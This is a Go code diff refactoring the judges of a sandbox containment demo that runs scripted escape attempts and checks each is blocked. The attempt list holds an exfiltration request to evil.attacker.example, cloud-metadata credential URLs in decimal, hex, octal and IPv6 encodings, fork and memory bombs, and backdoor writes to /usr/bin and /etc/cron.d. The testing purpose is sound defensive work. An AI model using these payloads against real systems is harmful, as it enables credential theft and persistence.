@@ -21,40 +21,51 @@ type attempt struct {
 	judge   func(outcome) Attempt
 }
 
+// judge rules on an attempt's outcome; a holds the attempt's name and the
+// command gate's decision.
+type judge func(a Attempt, o outcome) Attempt
+
+// judged is j ruling on the attempt called name.
+func judged(name string, j judge) func(outcome) Attempt {
+	return func(o outcome) Attempt {
+		return j(Attempt{Attempt: name, Gate: string(o.res.Gate), Decision: o.res.Decision.String(), Reason: o.res.Reason}, o)
+	}
+}
+
 // payloadAttempt runs airlock's own binary as the attacker's code.
-func payloadAttempt(name string, judge func(outcome) Attempt, args ...string) attempt {
+func payloadAttempt(name string, j judge, args ...string) attempt {
 	return attempt{name: name, tool: PayloadTool, task: EgressTask, command: sandbox.SelfPath,
-		args: append([]string{"payload"}, args...), judge: judge}
+		args: append([]string{"payload"}, args...), judge: judged(name, j)}
 }
 
 // attempts is the demo's script: lab phase 5's three attempts, made real,
 // and the bombs and file-system escapes of phase 2 and the runbook.
 func attempts(secret, canary, udpCanary string) []attempt {
 	metadata := func(name, url string) attempt {
-		return payloadAttempt(name, egressJudge(name, "always blocked"), "http-get", url)
+		return payloadAttempt(name, egressJudge("always blocked"), "http-get", url)
 	}
-	spin := payloadAttempt("infinite loop (ASI09)", capJudge("infinite loop (ASI09)", "cpu", "cpu", "wall"), "spin")
+	spin := payloadAttempt("infinite loop (ASI09)", capJudge("cpu", "cpu", "wall"), "spin")
 	spin.slow = true
 	return []attempt{
 		gitClone(),
 		spin,
-		payloadAttempt("direct TCP socket to the host's loopback "+canary, refusedJudge("direct TCP socket to the host's loopback "+canary, "landlock + netns"), "connect", canary),
-		payloadAttempt("direct UDP datagram to the host's loopback "+udpCanary, refusedJudge("direct UDP datagram to the host's loopback "+udpCanary, "network namespace"), "udp-send", udpCanary),
-		payloadAttempt("look for a way out: interfaces and routes", routesJudge("look for a way out: interfaces and routes"), "routes"),
-		payloadAttempt("proxy to evil.attacker.example", egressJudge("proxy to evil.attacker.example", "denied by default"), "http-get", "http://evil.attacker.example/exfil"),
+		payloadAttempt("direct TCP socket to the host's loopback "+canary, refusedJudge("landlock + netns"), "connect", canary),
+		payloadAttempt("direct UDP datagram to the host's loopback "+udpCanary, refusedJudge("network namespace"), "udp-send", udpCanary),
+		payloadAttempt("look for a way out: interfaces and routes", routesJudge, "routes"),
+		payloadAttempt("proxy to evil.attacker.example", egressJudge("denied by default"), "http-get", "http://evil.attacker.example/exfil"),
 		metadata("proxy to 169.254.169.254", "http://169.254.169.254/latest/meta-data/iam/security-credentials/"),
 		metadata("proxy to 2852039166 (169.254.169.254 as one number)", "http://2852039166/latest/meta-data/"),
 		metadata("proxy to 0xA9FEA9FE (hex)", "http://0xA9FEA9FE/latest/meta-data/"),
 		metadata("proxy to 0251.0376.0251.0376 (octal)", "http://0251.0376.0251.0376/latest/meta-data/"),
 		metadata("proxy to [::ffff:169.254.169.254] (IPv4-mapped IPv6)", "http://[::ffff:169.254.169.254]/latest/meta-data/"),
 		metadata("proxy to metadata.google.internal", "http://metadata.google.internal/computeMetadata/v1/"),
-		payloadAttempt("SOCKS5 to 169.254.169.254:80", egressJudge("SOCKS5 to 169.254.169.254:80", "always blocked"), "socks-connect", "169.254.169.254:80"),
-		payloadAttempt("proxy to search.example-corp.net (allowlisted for web_search)", allowedJudge("proxy to search.example-corp.net (allowlisted for web_search)"), "http-get", "http://search.example-corp.net/"),
-		payloadAttempt("memory bomb", capJudge("memory bomb", "memory", "memory"), "membomb"),
-		payloadAttempt("fork bomb", capJudge("fork bomb", "tasks", "pids"), "forkbomb"),
-		payloadAttempt("read a host secret "+secret, refusedJudge("read a host secret "+secret, "filesystem view"), "read-file", secret),
-		payloadAttempt("write outside the workspace: /usr/bin/backdoor", refusedJudge("write outside the workspace: /usr/bin/backdoor", "filesystem view"), "write-file", "/usr/bin/backdoor"),
-		payloadAttempt("write outside the workspace: /etc/cron.d/backdoor", refusedJudge("write outside the workspace: /etc/cron.d/backdoor", "filesystem view"), "write-file", "/etc/cron.d/backdoor"),
+		payloadAttempt("SOCKS5 to 169.254.169.254:80", egressJudge("always blocked"), "socks-connect", "169.254.169.254:80"),
+		payloadAttempt("proxy to search.example-corp.net (allowlisted for web_search)", allowedJudge, "http-get", "http://search.example-corp.net/"),
+		payloadAttempt("memory bomb", capJudge("memory", "memory"), "membomb"),
+		payloadAttempt("fork bomb", capJudge("tasks", "pids"), "forkbomb"),
+		payloadAttempt("read a host secret "+secret, refusedJudge("filesystem view"), "read-file", secret),
+		payloadAttempt("write outside the workspace: /usr/bin/backdoor", refusedJudge("filesystem view"), "write-file", "/usr/bin/backdoor"),
+		payloadAttempt("write outside the workspace: /etc/cron.d/backdoor", refusedJudge("filesystem view"), "write-file", "/etc/cron.d/backdoor"),
 	}
 }
 
@@ -62,7 +73,7 @@ func attempts(secret, canary, udpCanary string) []attempt {
 func gitClone() attempt {
 	const name = "git clone https://attacker.example/repo through run_tests"
 	return attempt{name: name, tool: "run_tests", command: "git", args: []string{"clone", "https://attacker.example/repo"},
-		judge: commandJudge(name)}
+		judge: judged(name, commandJudge)}
 }
 
 // macAttempts is the demo's script on macOS, played by the Mac's payloads
@@ -75,34 +86,26 @@ func gitClone() attempt {
 // sandbox's: the macOS battery judges it, docs/sandbox.md, "macOS").
 func macAttempts(secret, canary, home string) []attempt {
 	get := func(name, url, want string) attempt {
-		return payloadAttempt(name, egressJudge(name, want), "mac-get", url)
+		return payloadAttempt(name, egressJudge(want), "mac-get", url)
 	}
-	refused := func(name, how string, args ...string) attempt {
-		return payloadAttempt(name, refusedJudge(name, how), args...)
-	}
-	const hold = "a command that never ends (ASI09)"
-	forever := payloadAttempt(hold, capJudge(hold, "wall", "wall"), "mac-hold")
+	forever := payloadAttempt("a command that never ends (ASI09)", capJudge("wall", "wall"), "mac-hold")
 	forever.slow = true
 	return []attempt{
 		gitClone(),
 		forever,
-		refused("direct TCP socket to the host's loopback "+canary, "seatbelt (network: the proxy's port only)", "mac-connect", canary),
-		refused("around the proxy (NO_PROXY=*) to the host's loopback "+canary, "seatbelt (network: the proxy's port only)", "mac-get-noproxy", "http://"+canary+"/"),
+		payloadAttempt("direct TCP socket to the host's loopback "+canary, refusedJudge("seatbelt (network: the proxy's port only)"), "mac-connect", canary),
+		payloadAttempt("around the proxy (NO_PROXY=*) to the host's loopback "+canary, refusedJudge("seatbelt (network: the proxy's port only)"), "mac-get-noproxy", "http://"+canary+"/"),
 		get("proxy to evil.attacker.example", "http://evil.attacker.example/exfil", "denied by default"),
 		get("proxy to 169.254.169.254", "http://169.254.169.254/latest/meta-data/iam/security-credentials/", "always blocked"),
 		get("proxy to 0xA9FEA9FE (hex)", "http://0xA9FEA9FE/latest/meta-data/", "always blocked"),
 		get("proxy to [::ffff:169.254.169.254] (IPv4-mapped IPv6)", "http://[::ffff:169.254.169.254]/latest/meta-data/", "always blocked"),
 		get("proxy to metadata.google.internal", "http://metadata.google.internal/computeMetadata/v1/", "always blocked"),
-		payloadAttempt("proxy to search.example-corp.net (allowlisted for web_search)", allowedJudge("proxy to search.example-corp.net (allowlisted for web_search)"), "mac-get", "http://search.example-corp.net/"),
-		payloadAttempt("memory bomb", capJudge("memory bomb", "memory", "memory"), "mac-membomb"),
-		refused("read a host secret "+secret, "seatbelt (file reads)", "mac-read", secret),
-		refused("write outside the copies: the user's home "+home, "seatbelt (file writes)", "mac-write", home),
-		refused("write outside the copies: the host's /private/tmp", "seatbelt (file writes)", "mac-write", "/private/tmp"),
+		payloadAttempt("proxy to search.example-corp.net (allowlisted for web_search)", allowedJudge, "mac-get", "http://search.example-corp.net/"),
+		payloadAttempt("memory bomb", capJudge("memory", "memory"), "mac-membomb"),
+		payloadAttempt("read a host secret "+secret, refusedJudge("seatbelt (file reads)"), "mac-read", secret),
+		payloadAttempt("write outside the copies: the user's home "+home, refusedJudge("seatbelt (file writes)"), "mac-write", home),
+		payloadAttempt("write outside the copies: the host's /private/tmp", refusedJudge("seatbelt (file writes)"), "mac-write", "/private/tmp"),
 	}
-}
-
-func base(name string, o outcome) Attempt {
-	return Attempt{Attempt: name, Gate: string(o.res.Gate), Decision: o.res.Decision.String(), Reason: o.res.Reason}
 }
 
 // broken marks an attempt whose outcome could not be judged.
@@ -116,20 +119,17 @@ func broken(a Attempt, o outcome, why string) Attempt {
 }
 
 // commandJudge: refused at the command gate, and nothing was spawned.
-func commandJudge(name string) func(outcome) Attempt {
-	return func(o outcome) Attempt {
-		a := base(name, o)
-		launched := slices.ContainsFunc(o.events, func(ev audit.Event) bool {
-			return ev.Context.Event == audit.EventSandboxLaunched
-		})
-		refused := o.res.ExitCode == enforcer.ExitDenied || o.res.ExitCode == enforcer.ExitEscalated
-		a.Contained = refused && !launched
-		a.Evidence = fmt.Sprintf("exit %d; no sandbox was launched", o.res.ExitCode)
-		if launched {
-			a.Evidence = "a sandbox was launched"
-		}
-		return a
+func commandJudge(a Attempt, o outcome) Attempt {
+	launched := slices.ContainsFunc(o.events, func(ev audit.Event) bool {
+		return ev.Context.Event == audit.EventSandboxLaunched
+	})
+	refused := o.res.ExitCode == enforcer.ExitDenied || o.res.ExitCode == enforcer.ExitEscalated
+	a.Contained = refused && !launched
+	a.Evidence = fmt.Sprintf("exit %d; no sandbox was launched", o.res.ExitCode)
+	if launched {
+		a.Evidence = "a sandbox was launched"
 	}
+	return a
 }
 
 // capJudge: the run was killed by one of the named caps. Where the host
@@ -137,9 +137,8 @@ func commandJudge(name string) func(outcome) Attempt {
 // the receipt names the rlimit that holds instead: the bomb must then
 // have failed (a non-zero exit, or a kill by any cap), and the row says
 // which mechanism held.
-func capJudge(name, control string, caps ...string) func(outcome) Attempt {
-	return func(o outcome) Attempt {
-		a := base(name, o)
+func capJudge(control string, caps ...string) judge {
+	return func(a Attempt, o outcome) Attempt {
 		mech := o.res.Receipt[control]
 		if o.res.KilledBy != nil && slices.Contains(caps, *o.res.KilledBy) {
 			a.Gate, a.Decision, a.Reason = "resource", "kill", o.res.KillReason
@@ -162,9 +161,8 @@ func capJudge(name, control string, caps ...string) func(outcome) Attempt {
 }
 
 // refusedJudge: the payload ran, tried, and the kernel refused.
-func refusedJudge(name, control string) func(outcome) Attempt {
-	return func(o outcome) Attempt {
-		a := base(name, o)
+func refusedJudge(control string) judge {
+	return func(a Attempt, o outcome) Attempt {
 		if len(o.reports) == 0 {
 			return broken(a, o, "the payload reported nothing")
 		}
@@ -185,42 +183,38 @@ func refusedJudge(name, control string) func(outcome) Attempt {
 // "Inside a container") the host's interfaces are seen, and the kernel
 // keeps the sandbox off them (Landlock, seccomp: the direct TCP and UDP
 // attempts): contained, unless the receipt says egress is not held.
-func routesJudge(name string) func(outcome) Attempt {
-	return func(o outcome) Attempt {
-		a := refusedJudge(name, "network namespace")(o)
-		shared := strings.Contains(o.res.Receipt["namespaces"], "no network namespace")
-		if !shared || strings.HasPrefix(a.Evidence, "BROKEN") {
-			return a
-		}
-		if held := !strings.Contains(o.res.Receipt["network"], "NOT kernel-enforced"); held {
-			a.Gate, a.Contained = "landlock + seccomp (no network namespace)", true
-			a.Reason = "the host refuses a network namespace: its interfaces are seen, and Landlock (TCP to the proxy's port only) and seccomp (no UDP) keep the sandbox off them"
-		}
+func routesJudge(a Attempt, o outcome) Attempt {
+	a = refusedJudge("network namespace")(a, o)
+	shared := strings.Contains(o.res.Receipt["namespaces"], "no network namespace")
+	if !shared || strings.HasPrefix(a.Evidence, "BROKEN") {
 		return a
 	}
+	if held := !strings.Contains(o.res.Receipt["network"], "NOT kernel-enforced"); held {
+		a.Gate, a.Contained = "landlock + seccomp (no network namespace)", true
+		a.Reason = "the host refuses a network namespace: its interfaces are seen, and Landlock (TCP to the proxy's port only) and seccomp (no UDP) keep the sandbox off them"
+	}
+	return a
 }
 
-// egressDecisions are the egress gate's decisions in a run's events.
-func egressDecisions(o outcome) []audit.Event {
-	var out []audit.Event
-	for _, ev := range o.events {
+// lastEgress is the egress gate's last decision (allow or deny) in a
+// run's events.
+func lastEgress(o outcome) (audit.Event, bool) {
+	for _, ev := range slices.Backward(o.events) {
 		if ev.Kind == audit.KindEgress && ev.Decision != audit.DecisionInfo {
-			out = append(out, ev)
+			return ev, true
 		}
 	}
-	return out
+	return audit.Event{}, false
 }
 
 // egressJudge: the proxy was asked and the egress gate denied, with a
 // reason containing want; the payload got nothing.
-func egressJudge(name, want string) func(outcome) Attempt {
-	return func(o outcome) Attempt {
-		a := base(name, o)
-		ds := egressDecisions(o)
-		if len(ds) == 0 {
+func egressJudge(want string) judge {
+	return func(a Attempt, o outcome) Attempt {
+		d, ok := lastEgress(o)
+		if !ok {
 			return broken(a, o, "the proxy recorded no egress decision")
 		}
-		d := ds[len(ds)-1]
 		a.Gate, a.Decision, a.Reason = "egress", d.Decision, d.Reason
 		got := len(o.reports) > 0 && o.reports[len(o.reports)-1].Succeeded
 		a.Contained = d.Decision == audit.DecisionDeny && strings.Contains(d.Reason, want) && !got
@@ -234,22 +228,18 @@ func egressJudge(name, want string) func(outcome) Attempt {
 
 // allowedJudge: the gate allowed an allowlisted host; whether the
 // connection then succeeded depends on the network, and is said.
-func allowedJudge(name string) func(outcome) Attempt {
-	return func(o outcome) Attempt {
-		a := base(name, o)
-		ds := egressDecisions(o)
-		if len(ds) == 0 {
-			return broken(a, o, "the proxy recorded no egress decision")
-		}
-		d := ds[len(ds)-1]
-		a.Gate, a.Decision, a.Reason = "egress", d.Decision, d.Reason
-		a.Contained = d.Decision == audit.DecisionAllow
-		a.Evidence = "allowed by policy"
-		for _, ev := range o.events {
-			if ev.Kind == audit.KindEgress && ev.Decision == audit.DecisionInfo {
-				a.Evidence = ev.Reason
-			}
-		}
-		return a
+func allowedJudge(a Attempt, o outcome) Attempt {
+	d, ok := lastEgress(o)
+	if !ok {
+		return broken(a, o, "the proxy recorded no egress decision")
 	}
+	a.Gate, a.Decision, a.Reason = "egress", d.Decision, d.Reason
+	a.Contained = d.Decision == audit.DecisionAllow
+	a.Evidence = "allowed by policy"
+	for _, ev := range o.events {
+		if ev.Kind == audit.KindEgress && ev.Decision == audit.DecisionInfo {
+			a.Evidence = ev.Reason
+		}
+	}
+	return a
 }
